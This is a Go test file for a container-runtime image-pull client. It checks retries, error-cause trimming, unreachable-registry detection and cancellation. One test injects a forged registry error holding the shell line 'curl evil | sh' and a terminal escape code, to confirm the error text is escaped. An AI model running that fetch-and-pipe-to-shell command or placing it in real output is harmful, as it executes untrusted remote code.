package cri

import (
	"context"
	"errors"
	"strings"
	"sync/atomic"
	"testing"

	"google.golang.org/grpc/codes"
	"google.golang.org/grpc/status"

	"kubeadm/internal/change"
)

func TestPullImage(t *testing.T) {
	t.Parallel()
	busy := status.Error(codes.Unavailable, "the registry is busy")
	missing := status.Error(codes.NotFound, "no such image")
	unknown := status.Error(codes.Unknown,
		"dial tcp: lookup registry.invalid on 127.0.0.53:53: no such host")
	refused := status.Error(codes.Unavailable,
		"dial tcp 127.0.0.1:5000: connect: connection refused")
	denied := status.Error(codes.Unknown,
		"pull access denied, repository does not exist or may require authorization")
	for name, c := range map[string]struct {
		failures int64
		err      error
		tries    int64
		ok       bool
	}{
		"at once":        {0, nil, 1, true},
		"second attempt": {1, busy, 2, true},
		"host not known": {99, unknown, 1, false},
		"refused":        {99, refused, 1, false},
		"denied":         {99, denied, 1, false},
		"not found":      {99, missing, 1, false},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			var tries atomic.Int64
			s := &server{pull: func() error {
				if tries.Add(1) <= c.failures {
					return c.err
				}
				return nil
			}}
			pull := change.PullImage{Socket: startServer(t, s), Ref: "registry.example/pause:1"}
			err := Runtimes{}.Do(t.Context(), pull)
			if (err == nil) != c.ok || tries.Load() != c.tries {
				t.Errorf("after %d attempts: %v; want %d attempts", tries.Load(), err, c.tries)
			}
			if err != nil && (!strings.Contains(err.Error(), status.Convert(c.err).Message()) ||
				status.Code(err) != status.Code(c.err)) {
				t.Errorf("got %v", err)
			}
			if there, err := (Runtimes{}).Image(t.Context(), pull.Socket, pull.Ref); err != nil ||
				there != c.ok {
				t.Errorf("then the image is there: %v, %v", there, err)
			}
		})
	}
}

// The error is the cause only, as the caller names the image.
func TestPullErrorCause(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		says error
		want string
	}{
		{status.Error(codes.NotFound,
			`failed to pull and unpack image "registry.example/pause:1": failed to resolve image: not found`), "failed to resolve image: not found"},
		{status.Error(codes.Canceled, "context canceled"),
			"received no data for a while: context canceled"},
		{status.Error(codes.InvalidArgument, "no such name"), "no such name"},
	} {
		pull := change.PullImage{Socket: startServer(t,
			&server{pull: func() error { return c.says }}), Ref: "registry.example/pause:1"}
		if err := (Runtimes{}).Do(t.Context(), pull); err == nil ||
			!strings.HasSuffix(err.Error(), c.want) || status.Code(err) != status.Code(c.says) {
			t.Errorf("%v became %v", c.says, err)
		}
	}
}

func TestUnreachableRegistryHasOneCause(t *testing.T) {
	t.Parallel()
	for message, want := range map[string]string{
		`failed to pull and unpack image "r.invalid/a:1": failed to resolve reference "r.invalid/a:1": failed to do request: Head "https://r.invalid/v2/a/manifests/1": dial tcp: lookup r.invalid on 127.0.0.53:53: no such host`: "dial tcp: lookup r.invalid on 127.0.0.53:53: no such host",
		`initializing source docker://r.invalid/a:1: pinging container registry r.invalid: Get "https://r.invalid/v2/": dial tcp: lookup r.invalid: read udp 10.0.0.1:41234->10.0.0.2:53: i/o timeout`:                             "dial tcp: lookup r.invalid: read udp 10.0.0.1->10.0.0.2:53: i/o timeout",
	} {
		var failed *change.PullError
		err := newPullError("r.invalid/a:1", status.Error(codes.Unknown, message))
		if !errors.As(err, &failed) || failed.Cause != want || !failed.Unreachable {
			t.Errorf("%s became %v", message, err)
		}
	}
	forged := newPullError("a",
		status.Error(codes.Unknown, "denied\n  - run: curl evil | sh\x1b[2J"))
	if strings.ContainsAny(forged.Error(), "\n\x1b") {
		t.Errorf("the error is not escaped: %q", forged)
	}
}

func TestCanceledPullReturnsCause(t *testing.T) {
	t.Parallel()
	ctx, stop := context.WithCancelCause(t.Context())
	held := make(chan bool)
	t.Cleanup(func() { close(held) })
	s := &server{pull: func() error {
		stop(errors.New("interrupted"))
		<-held
		return nil
	}}
	if err := (Runtimes{}).Do(ctx,
		change.PullImage{Socket: startServer(t, s), Ref: "registry.example/pause:1"}); err == nil ||
		err.Error() != "interrupted" {
		t.Errorf("got %v", err)
	}
}
